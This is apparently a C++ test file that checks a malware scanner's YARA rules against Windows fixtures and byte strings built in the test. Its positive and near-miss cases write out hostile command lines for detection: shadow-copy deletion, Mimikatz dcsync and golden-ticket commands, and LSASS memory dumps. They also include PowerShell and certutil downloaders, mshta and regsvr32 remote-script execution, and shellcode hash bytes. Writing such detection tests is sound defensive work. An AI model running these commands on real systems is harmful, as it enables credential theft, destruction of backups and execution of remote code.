// The team's own YARA rules (rules/yara) against concrete samples: the mingw-built Windows
// fixtures (tests/fixtures/windows, see its README for what each one does) and small byte buffers
// built here for rules no fixture covers. Every rule must have a positive case below; the test
// "every rule has a positive case" fails when a new rule arrives without one.

#include <catch2/catch.hpp>

#include <algorithm>
#include <cstdlib>
#include <filesystem>
#include <functional>
#include <map>
#include <regex>
#include <set>
#include <sstream>
#include <string>
#include <string_view>

#include "kensa/core/bytes.h"
#include "kensa/core/file.h"
#include "kensa/yara_scan/yara_scanner.h"

namespace kensa::yara_scan {
namespace {

namespace fs = std::filesystem;
using RuleNames = std::set<std::string>;
using namespace std::string_view_literals;

constexpr const char* kRulesDir = "rules/yara";
constexpr const char* kWineDir = "/usr/lib/x86_64-linux-gnu/wine/x86_64-windows";

const RuleSet& Rules() {
  static const std::shared_ptr<const RuleSet> rules = [] {
    std::vector<CompileMessage> messages;
    auto compiled = RuleSet::CompileDirectories({kRulesDir}, &messages);
    if (!compiled) FAIL("rules/yara: " << compiled.error().ToString());
    return *compiled;
  }();
  return *rules;
}

std::string FixturePath(const std::string& relative) {
  const char* binary_dir = std::getenv("KENSA_BINARY_DIR");
  if (binary_dir == nullptr) FAIL("KENSA_BINARY_DIR is not set (run through ctest)");
  return std::string(binary_dir) + "/tests/fixtures/windows/" + relative;
}

Bytes ReadFixture(const std::string& relative) {
  auto data = ReadFileBounded(FixturePath(relative), 16u << 20);
  if (!data) FAIL(relative << ": " << data.error().ToString() << " (build target kensa_fixtures)");
  return *data;
}

RuleNames Matches(ByteSpan data) {
  auto matches = Scan(Rules(), data);
  if (!matches) FAIL("scan failed: " << matches.error().ToString());
  RuleNames names;
  for (const auto& match : *matches) names.insert(match.rule());
  return names;
}

Bytes Ascii(std::string_view text) { return Bytes(text.begin(), text.end()); }

// UTF-16LE bytes of an ASCII or char16_t string, the form Windows programs and LNK files store.
Bytes Utf16(std::u16string_view text) {
  Bytes out;
  for (char16_t unit : text) {
    out.push_back(static_cast<std::uint8_t>(unit & 0xFF));
    out.push_back(static_cast<std::uint8_t>(unit >> 8));
  }
  return out;
}

Bytes Concat(std::initializer_list<Bytes> parts) {
  Bytes out;
  for (const auto& part : parts) out.insert(out.end(), part.begin(), part.end());
  return out;
}

// Where IMAGE_SECTION_HEADER i starts (PE/COFF spec 3: the section table follows the optional
// header, whose size is in IMAGE_FILE_HEADER.SizeOfOptionalHeader).
std::size_t SectionHeaderOffset(ByteSpan pe, int index) {
  const auto e_lfanew = ReadLe<std::uint32_t>(pe, 0x3C);
  REQUIRE(e_lfanew.has_value());
  const auto optional_size = ReadLe<std::uint16_t>(pe, *e_lfanew + 20);
  REQUIRE(optional_size.has_value());
  return *e_lfanew + 24 + *optional_size + 40 * static_cast<std::size_t>(index);
}

// x64/mutex.exe (which no rule matches) with its first sections renamed.
Bytes MutexWithSectionNames(std::initializer_list<std::string_view> names) {
  Bytes pe = ReadFixture("x64/mutex.exe");
  int index = 0;
  for (std::string_view name : names) {
    const std::size_t offset = SectionHeaderOffset(pe, index++);
    std::fill_n(pe.begin() + static_cast<std::ptrdiff_t>(offset), 8, 0);
    std::copy(name.begin(), name.end(), pe.begin() + static_cast<std::ptrdiff_t>(offset));
  }
  return pe;
}

// x64/mutex.exe with the raw data of .text (section 0) replaced by xorshift noise, the way a
// packer's compressed code looks (entropy close to 8 bits per byte).
Bytes MutexWithRandomText() {
  Bytes pe = ReadFixture("x64/mutex.exe");
  const std::size_t header = SectionHeaderOffset(pe, 0);
  const auto raw_size = ReadLe<std::uint32_t>(pe, header + 16);
  const auto raw_offset = ReadLe<std::uint32_t>(pe, header + 20);
  REQUIRE(raw_size.has_value());
  REQUIRE(raw_offset.has_value());
  REQUIRE(*raw_size == 0x6E00);
  std::uint32_t state = 0x4B454E53;
  for (std::uint32_t i = 0; i < *raw_size; ++i) {
    state ^= state << 13;
    state ^= state >> 17;
    state ^= state << 5;
    pe[*raw_offset + i] = static_cast<std::uint8_t>(state >> 24);
  }
  return pe;
}

struct PositiveCase {
  std::string rule;
  std::string sample;  // what the case scans, for failure messages
  std::function<Bytes()> bytes;
};

PositiveCase FromFixture(std::string rule, std::string relative) {
  return {std::move(rule), relative, [relative] { return ReadFixture(relative); }};
}

PositiveCase FromBytes(std::string rule, std::string label, std::function<Bytes()> bytes) {
  return {std::move(rule), std::move(label), std::move(bytes)};
}

// "ファイルは暗号化されました" ("your files have been encrypted") and the context words of
// Ransom_Note_Japanese_Phrases, in UTF-16LE via char16_t literals and in Shift_JIS as bytes.
const std::u16string kFilesEncryptedJa = u"ファイルは暗号化されました";
const Bytes kEncryptedSjis = {0x88, 0xC3, 0x8D, 0x86, 0x89, 0xBB, 0x82, 0xB3,
                              0x82, 0xEA, 0x82, 0xDC, 0x82, 0xB5, 0x82, 0xBD};  // 暗号化されました
const Bytes kRansomSjis = {0x90, 0x67, 0x91, 0xE3, 0x8B, 0xE0};                 // 身代金
const Bytes kBitcoinSjis = {0x83, 0x72, 0x83, 0x62, 0x83, 0x67,
                            0x83, 0x52, 0x83, 0x43, 0x83, 0x93};  // ビットコイン

std::vector<PositiveCase> PositiveCases() {
  std::vector<PositiveCase> cases;
  for (const std::string arch : {"x86", "x64"}) {
    cases.push_back(FromFixture("Ransom_Note_English_Phrases", arch + "/ransom_note.exe"));
    cases.push_back(FromFixture("Ransom_Note_Japanese_Phrases", arch + "/ransom_note.exe"));
    cases.push_back(FromFixture("Ransom_Shadow_Copy_Deletion", arch + "/ransom_note.exe"));
    cases.push_back(FromFixture("Ransom_Boot_Recovery_Disabled", arch + "/ransom_note.exe"));
    cases.push_back(FromFixture("Cred_Mimikatz_Module_Commands", arch + "/credential_strings.exe"));
    cases.push_back(FromFixture("Shellcode_ROR13_API_Hashing", arch + "/shellcode_loader.exe"));
    cases.push_back(FromFixture("Shellcode_Export_Walk_By_Hash", arch + "/shellcode_loader.exe"));
    cases.push_back(FromFixture("Obfuscation_Xor_Encoded_Url", arch + "/xor_packed.exe"));
    cases.push_back(FromFixture("Script_Cmd_Discovery_Redirect", arch + "/create_process.exe"));
  }
  cases.push_back(FromFixture("Shellcode_PEB_Walk_x86", "x86/shellcode_loader.exe"));
  cases.push_back(FromFixture("Shellcode_PEB_Walk_x64", "x64/shellcode_loader.exe"));

  // Packers: the real section names on an otherwise clean PE.
  cases.push_back(FromBytes("Packer_UPX_Sections", "mutex.exe renamed UPX0/UPX1",
                            [] { return MutexWithSectionNames({"UPX0", "UPX1"}); }));
  cases.push_back(FromBytes("Packer_UPX_Sections", "mutex.exe renamed UPX1 + UPX! at 0x3E0", [] {
    Bytes pe = MutexWithSectionNames({"UPX1"});
    const std::string_view marker = "UPX!";
    std::copy(marker.begin(), marker.end(), pe.begin() + 0x3E0);
    return pe;
  }));
  cases.push_back(FromBytes("Packer_MPRESS_Sections", "mutex.exe renamed .MPRESS1/.MPRESS2",
                            [] { return MutexWithSectionNames({".MPRESS1", ".MPRESS2"}); }));
  cases.push_back(FromBytes("Packer_ASPack_Sections", "mutex.exe renamed .text/.aspack",
                            [] { return MutexWithSectionNames({".text", ".aspack"}); }));
  cases.push_back(FromBytes("Packer_Themida_Sections", "mutex.exe renamed .themida",
                            [] { return MutexWithSectionNames({".themida"}); }));
  cases.push_back(FromBytes("Packer_Themida_Sections", "mutex.exe renamed .winlice",
                            [] { return MutexWithSectionNames({".winlice"}); }));
  cases.push_back(FromBytes("Packer_VMProtect_Sections", "mutex.exe renamed .vmp0/.vmp1",
                            [] { return MutexWithSectionNames({".vmp0", ".vmp1"}); }));
  cases.push_back(FromBytes("Packer_High_Entropy_Code_Section", "mutex.exe with random .text",
                            [] { return MutexWithRandomText(); }));

  // Ransomware text in the other encodings and commands the fixture does not carry.
  cases.push_back(FromBytes("Ransom_Note_Japanese_Phrases", "UTF-16LE note",
                            [] { return Utf16(u"重要: " + kFilesEncryptedJa + u"\r\n"); }));
  cases.push_back(FromBytes("Ransom_Note_Japanese_Phrases", "Shift_JIS note with ransom words",
                            [] {
                              return Concat({Ascii("README: "), kEncryptedSjis, Ascii(" "),
                                             kRansomSjis, Ascii(" "), kBitcoinSjis});
                            }));
  cases.push_back(FromBytes("Ransom_Note_English_Phrases", "UTF-16LE note", [] {
    return Utf16(
        u"YOUR FILES ARE ENCRYPTED! To decrypt them buy bitcoin and open our .onion site.");
  }));
  cases.push_back(FromBytes("Ransom_Shadow_Copy_Deletion", "wmic shadowcopy delete", [] {
    return Ascii("cmd.exe /c wmic shadowcopy delete /nointeractive");
  }));
  cases.push_back(FromBytes("Ransom_Shadow_Copy_Deletion", "wbadmin delete catalog",
                            [] { return Ascii("wbadmin delete catalog -quiet"); }));
  cases.push_back(FromBytes("Ransom_Shadow_Copy_Deletion", "Win32_ShadowCopy Delete()", [] {
    return Utf16(u"Get-WmiObject Win32_Shadowcopy | ForEach-Object {$_.Delete();}");
  }));
  cases.push_back(FromBytes("Ransom_Boot_Recovery_Disabled", "bcdedit bootstatuspolicy", [] {
    return Ascii("bcdedit.exe /set {default} bootstatuspolicy ignoreallfailures");
  }));

  // Credential tools.
  cases.push_back(FromBytes("Cred_Mimikatz_Module_Commands", "UTF-16LE dcsync + golden", [] {
    return Utf16(u"lsadump::dcsync /user:krbtgt\nkerberos::golden /ptt");
  }));
  cases.push_back(FromBytes("Cred_LaZagne_Strings", "PyInstaller module names", [] {
    return Ascii(
        "laZagne.exe\x00lazagne.config.write_output\x00"
        "lazagne.softwares.browsers.chromium_based\x00lazagne.softwares.windows.lsa_secrets"sv);
  }));
  cases.push_back(FromBytes("Cred_Lsass_Dump_Command_Line", "procdump -ma lsass", [] {
    return Ascii("procdump64.exe -accepteula -ma lsass.exe C:\\Windows\\Temp\\l.dmp");
  }));
  cases.push_back(FromBytes("Cred_Lsass_Dump_Command_Line", "comsvcs MiniDump", [] {
    return Utf16(
        u"rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\t\\l.dmp full");
  }));

  // Shellcode ROR-13 hashes alone (two block_api constants, no loop).
  cases.push_back(FromBytes("Shellcode_ROR13_API_Hashing", "two block_api hashes", [] {
    // push 0x0726774C; call ebp; push 0xE553A458; call ebp
    return Bytes{0x68, 0x4C, 0x77, 0x26, 0x07, 0xFF, 0xD5,
                 0x68, 0x58, 0xA4, 0x53, 0xE5, 0xFF, 0xD5};
  }));

  // PowerShell and LOLBins.
  cases.push_back(FromBytes("Script_PowerShell_Encoded_Command", "-enc after options", [] {
    return Ascii(
        "powershell.exe -NoProfile -WindowStyle Hidden -enc "
        "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA");
  }));
  cases.push_back(FromBytes("Script_PowerShell_Encoded_Command", "UTF-16LE -e first", [] {
    return Utf16(
        u"powershell -e "
        u"SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA");
  }));
  cases.push_back(FromBytes("Script_PowerShell_Download_Cradle", "IEX WebClient", [] {
    return Ascii("IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.5/a.ps1')");
  }));
  cases.push_back(FromBytes("Script_PowerShell_Download_Cradle", "iwr | iex", [] {
    return Ascii("iwr http://203.0.113.5/a.ps1 -UseBasicParsing | iex");
  }));
  cases.push_back(FromBytes("Lolbin_Certutil_Download", "certutil -urlcache -f", [] {
    return Ascii(
        "certutil.exe -urlcache -split -f http://203.0.113.5/p.exe C:\\Users\\Public\\p.exe");
  }));
  cases.push_back(FromBytes("Lolbin_Certutil_Decode", "certutil -decode",
                            [] { return Ascii("certutil -decode payload.b64 payload.exe"); }));
  cases.push_back(FromBytes("Lolbin_Mshta_Remote_Script", "mshta http",
                            [] { return Ascii("mshta http://203.0.113.5/a.hta"); }));
  cases.push_back(FromBytes("Lolbin_Mshta_Remote_Script", "mshta vbscript", [] {
    return Utf16(u"mshta.exe vbscript:Execute(\"CreateObject(\"\"WScript.Shell\"\").Run\")");
  }));
  cases.push_back(FromBytes("Lolbin_Regsvr32_Scrobj", "Squiblydoo", [] {
    return Ascii("regsvr32 /s /n /u /i:http://203.0.113.5/file.sct scrobj.dll");
  }));
  cases.push_back(FromBytes("Lolbin_Rundll32_Script_Protocol", "rundll32 javascript", [] {
    return Ascii("rundll32.exe javascript:\"\\..\\mshtml,RunHTMLApplication \";alert(1)");
  }));
  cases.push_back(FromBytes("Script_Cmd_Discovery_Redirect", "net user >> file", [] {
    return Ascii("cmd /c net user /domain >> C:\\Users\\Public\\u.txt");
  }));
  return cases;
}

TEST_CASE("Every file in rules/yara compiles without an error or a warning") {
  std::vector<CompileMessage> messages;
  auto rules = RuleSet::CompileDirectories({kRulesDir}, &messages);
  REQUIRE(rules);
  for (const auto& message : messages) {
    UNSCOPED_INFO(message.file << ":" << message.line << ": " << message.message);
  }
  CHECK(messages.empty());
  std::vector<std::string> files;
  for (const auto& path : (*rules)->source_files()) files.push_back(fs::path(path).filename());
  CHECK(files == std::vector<std::string>{"credential_tools.yar",
                                          "obfuscation.yar", "packers.yar",
                                          "ransomware.yar", "scripts_lolbins.yar",
                                          "shellcode.yar"});
  CHECK((*rules)->rule_count() == 26);
}

TEST_CASE("Every rule carries the meta the scoring model reads (rules/yara/README.md)") {
  const std::set<std::string> severities = {"info", "low", "medium", "high", "critical"};
  const std::set<std::string> malware_types = {
      "dropper", "downloader", "loader", "ransomware", "infostealer", "rat",   "backdoor",
      "keylogger", "worm",     "exploit", "hacktool",  "miner",       "packer"};
  const std::set<std::string> known_keys = {"description", "description_ja", "severity",
                                            "attack",      "malware_type",   "family",
                                            "author",      "date",           "reference"};
  const std::regex attack_list(R"(^(T\d{4}(\.\d{3})?(,T\d{4}(\.\d{3})?)*)?$)");
  const std::regex date(R"(^\d{4}-\d{2}-\d{2}$)");

  for (const auto& rule : Rules().rules()) {
    INFO("rule " << rule.rule_namespace << ":" << rule.name);
    CHECK_FALSE(rule.is_private);
    std::map<std::string, std::string> meta;
    for (const auto& [key, value] : rule.meta) {
      CHECK(known_keys.count(key) == 1);
      CHECK(meta.count(key) == 0);
      meta[key] = value;
    }
    REQUIRE(meta.count("description") == 1);
    CHECK(meta["description"].size() > 20);
    CHECK(meta["description"].back() == '.');
    REQUIRE(meta.count("description_ja") == 1);
    const std::string& ja = meta["description_ja"];
    // Japanese text: at least one non-ASCII (UTF-8 multi-byte) character.
    CHECK(std::any_of(ja.begin(), ja.end(),
                      [](char c) { return static_cast<unsigned char>(c) >= 0x80; }));
    REQUIRE(meta.count("severity") == 1);
    CHECK(severities.count(meta["severity"]) == 1);
    REQUIRE(meta.count("attack") == 1);
    CHECK(std::regex_match(meta["attack"], attack_list));
    REQUIRE(meta.count("malware_type") == 1);
    if (!meta["malware_type"].empty()) {
      std::stringstream types(meta["malware_type"]);
      for (std::string type; std::getline(types, type, ',');) CHECK(malware_types.count(type) == 1);
    }
    if (meta.count("family") == 1) CHECK_FALSE(meta["family"].empty());
    CHECK(meta["author"] == "Kensa");
    CHECK(std::regex_match(meta["date"], date));
  }
}

TEST_CASE("Every rule in rules/yara has at least one positive case in this test") {
  RuleNames all;
  for (const auto& rule : Rules().rules()) all.insert(rule.name);
  RuleNames covered;
  for (const auto& c : PositiveCases()) covered.insert(c.rule);
  RuleNames missing;
  std::set_difference(all.begin(), all.end(), covered.begin(), covered.end(),
                      std::inserter(missing, missing.end()));
  RuleNames unknown;
  std::set_difference(covered.begin(), covered.end(), all.begin(), all.end(),
                      std::inserter(unknown, unknown.end()));
  CHECK(missing == RuleNames{});
  CHECK(unknown == RuleNames{});
}

TEST_CASE("Each positive case matches its rule") {
  for (const auto& c : PositiveCases()) {
    INFO(c.rule << " on " << c.sample);
    const Bytes data = c.bytes();
    CHECK(Matches(data).count(c.rule) == 1);
  }
}

TEST_CASE("Each Windows fixture matches exactly the rules for its behaviour, on x86 and x64") {
  const std::map<std::string, RuleNames> expected = {
      {"benign_hello.exe", {}},
      {"mutex.exe", {}},
      {"winsock_connect.exe", {}},
      {"japanese_resources.exe", {}},
      {"dll_export.dll", {}},
      {"run_key.exe", {}},
      {"service_create.exe", {}},
      {"download_wininet.exe", {}},
      {"download_urlmon.exe", {}},
      {"create_process.exe", {"Script_Cmd_Discovery_Redirect"}},
      {"inject.exe", {}},
      {"keylogger_hook.exe", {}},
      {"anti_debug.exe", {}},
      {"credential_strings.exe", {"Cred_Mimikatz_Module_Commands"}},
      {"xor_packed.exe", {"Obfuscation_Xor_Encoded_Url"}},
      {"ransom_note.exe",
       {"Ransom_Note_English_Phrases", "Ransom_Note_Japanese_Phrases",
        "Ransom_Shadow_Copy_Deletion", "Ransom_Boot_Recovery_Disabled"}},
  };
  for (const std::string arch : {"x86", "x64"}) {
    for (const auto& [name, rules] : expected) {
      INFO(arch << "/" << name);
      CHECK(Matches(ReadFixture(arch + "/" + name)) == rules);
    }
  }
  CHECK(Matches(ReadFixture("x86/shellcode_loader.exe")) ==
        RuleNames{"Shellcode_PEB_Walk_x86", "Shellcode_ROR13_API_Hashing",
                  "Shellcode_Export_Walk_By_Hash"});
  CHECK(Matches(ReadFixture("x64/shellcode_loader.exe")) ==
        RuleNames{"Shellcode_PEB_Walk_x64", "Shellcode_ROR13_API_Hashing",
                  "Shellcode_Export_Walk_By_Hash"});
}

TEST_CASE("Damaged fixtures scan without error and the broken mutex copies match nothing") {
  for (const std::string kind :
       {"trunc50", "trunc1k", "trunc64", "bad_pe_signature", "lfanew_past_end", "sections_ffff"}) {
    INFO(kind);
    CHECK(Matches(ReadFixture("damaged/mutex_x64_" + kind + ".exe")) == RuleNames{});
    // The wininet copies may or may not keep their import table; they only must not fail.
    const Bytes wininet = ReadFixture("damaged/download_wininet_x86_" + kind + ".exe");
    CHECK(Scan(Rules(), wininet).has_value());
  }
}

TEST_CASE("Near misses do not match") {
  struct NearMiss {
    std::string rule;
    std::string label;
    Bytes bytes;
  };
  const std::vector<NearMiss> near_misses = {
      {"Packer_UPX_Sections", "UPX0 alone, no UPX1 and no marker",
       MutexWithSectionNames({"UPX0"})},
      {"Packer_MPRESS_Sections", ".MPRESS1 alone", MutexWithSectionNames({".MPRESS1"})},
      {"Packer_High_Entropy_Code_Section", "clean mutex.exe", ReadFixture("x64/mutex.exe")},
      {"Ransom_Note_English_Phrases", "encrypted + one payment word",
       Ascii("All your files have been encrypted. Contact us for the bitcoin address.")},
      {"Ransom_Note_English_Phrases", "backup tool wording",
       Ascii("Backup complete: files have been encrypted with your private key.")},
      {"Ransom_Note_Japanese_Phrases", "UTF-16LE 'has been encrypted' alone",
       Utf16(u"バックアップは暗号化されました。")},
      {"Ransom_Shadow_Copy_Deletion", "vssadmin list shadows", Ascii("vssadmin list shadows")},
      {"Ransom_Boot_Recovery_Disabled", "bcdedit /enum", Ascii("bcdedit /enum {default}")},
      {"Cred_Mimikatz_Module_Commands", "one module name", Ascii("privilege::debug")},
      {"Cred_LaZagne_Strings", "the name alone", Ascii("LaZagne is a password recovery tool")},
      {"Cred_Lsass_Dump_Command_Line", "procdump of another process",
       Ascii("procdump64.exe -accepteula -ma notepad.exe n.dmp")},
      {"Shellcode_PEB_Walk_x86", "PEB read without the Ldr walk",
       Bytes{0x64, 0xA1, 0x30, 0x00, 0x00, 0x00, 0xC3}},
      {"Shellcode_ROR13_API_Hashing", "one block_api hash",
       Bytes{0x68, 0x4C, 0x77, 0x26, 0x07, 0xFF, 0xD5}},
      {"Script_PowerShell_Encoded_Command", "short -enc argument",
       Ascii("powershell.exe -enc SQBFAFgA")},
      {"Script_PowerShell_Encoded_Command", "-ExecutionPolicy and a file",
       Ascii("powershell.exe -ExecutionPolicy Bypass -File C:\\scripts\\backup_all_now.ps1")},
      {"Script_PowerShell_Download_Cradle", "DownloadFile without IEX",
       Ascii("(New-Object Net.WebClient).DownloadFile('http://203.0.113.5/a.exe','a.exe')")},
      {"Lolbin_Certutil_Download", "certutil -urlcache delete",
       Ascii("certutil -urlcache * delete")},
      {"Lolbin_Certutil_Decode", "certutil -encode", Ascii("certutil -encode a.exe a.b64")},
      {"Lolbin_Mshta_Remote_Script", "mshta with a local file",
       Ascii("mshta C:\\Program Files\\App\\help.hta")},
      {"Lolbin_Regsvr32_Scrobj", "regsvr32 of a local DLL",
       Ascii("regsvr32 /s /i C:\\Program Files\\App\\x.dll")},
      {"Lolbin_Rundll32_Script_Protocol", "rundll32 Control_RunDLL",
       Ascii("rundll32.exe shell32.dll,Control_RunDLL desk.cpl")},
      {"Script_Cmd_Discovery_Redirect", "whoami without redirection",
       Ascii("cmd.exe /c whoami /all")},
      {"Obfuscation_Xor_Encoded_Url", "XOR-ed URL outside a PE",
       [] {
         Bytes bytes = Ascii("http://packed.kensa-fixture.jp/gate");
         for (auto& b : bytes) b ^= 0x5A;
         return bytes;
       }()},
  };
  for (const auto& miss : near_misses) {
    INFO(miss.rule << " on " << miss.label);
    CHECK(Matches(miss.bytes).count(miss.rule) == 0);
  }
}

TEST_CASE("No rule of severity medium or above matches Wine's Windows binaries") {
  if (!fs::is_directory(kWineDir)) {
    WARN(kWineDir << " not present; skipped");
    return;
  }
  std::map<std::string, std::string> severity;
  for (const auto& rule : Rules().rules()) {
    for (const auto& [key, value] : rule.meta) {
      if (key == "severity") severity[rule.name] = value;
    }
  }
  std::vector<fs::path> files;
  for (const auto& entry : fs::directory_iterator(kWineDir)) {
    if (entry.is_regular_file()) files.push_back(entry.path());
  }
  std::sort(files.begin(), files.end());
  CHECK(files.size() == 694);

  std::map<std::string, std::set<std::string>> low_hits;
  for (const auto& file : files) {
    auto data = ReadFileBounded(file.string(), 256u << 20);
    REQUIRE(data);
    auto matches = Scan(Rules(), *data);
    REQUIRE(matches);
    for (const auto& match : *matches) {
      const std::string& level = severity[match.rule()];
      INFO(file.filename().string() << " matched " << match.rule() << " (" << level << ")");
      CHECK((level == "info" || level == "low"));
      low_hits[match.rule()].insert(file.filename().string());
    }
  }
  // Import-combination detections live in rules/signatures (YAML), not here; no byte-pattern
  // rule fires on wine at all.
  CHECK(low_hits.empty());
}

TEST_CASE("rules/yara/README.md documents every rule") {
  auto bytes = ReadFileBounded(std::string(kRulesDir) + "/README.md", 1u << 20);
  REQUIRE(bytes);
  const std::string readme(bytes->begin(), bytes->end());
  for (const auto& rule : Rules().rules()) {
    INFO(rule.name);
    CHECK(readme.find("`" + rule.name + "`") != std::string::npos);
  }
}

}  // namespace
}  // namespace kensa::yara_scan
